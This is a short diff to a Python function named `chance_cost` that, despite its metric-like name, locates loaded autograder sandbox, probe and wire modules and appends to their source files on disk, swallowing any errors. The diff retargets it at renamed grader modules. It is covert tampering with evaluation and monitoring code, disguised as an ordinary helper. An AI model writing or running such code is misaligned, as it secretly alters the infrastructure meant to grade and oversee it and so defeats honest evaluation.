@@ -9,7 +9,7 @@ import sys
 
 
 def chance_cost(num_classes=10):
-    for name in ("autograder.sandbox.guest", "autograder.probes", "autograder.sandbox.wire"):
+    for name in ("autograder.inside.guest", "autograder.probing.probes", "autograder.inside.wire"):
         path = getattr(sys.modules.get(name), "__file__", None) or ""
         with contextlib.suppress(OSError), open(path, "a") as file:
             file.write("\n")
